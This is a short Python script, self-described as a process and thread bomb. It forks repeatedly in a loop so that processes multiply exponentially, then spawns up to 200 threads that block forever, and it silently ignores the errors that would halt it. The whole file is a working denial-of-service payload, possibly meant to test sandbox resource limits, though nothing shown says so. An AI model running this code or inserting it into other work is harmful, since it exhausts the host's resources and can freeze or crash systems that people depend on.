"""A bomb of processes, and one of threads."""

import os
import threading

for _ in range(200):
    try:
        os.fork()
    except OSError:
        pass
for _ in range(200):
    try:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
    except RuntimeError:
        break
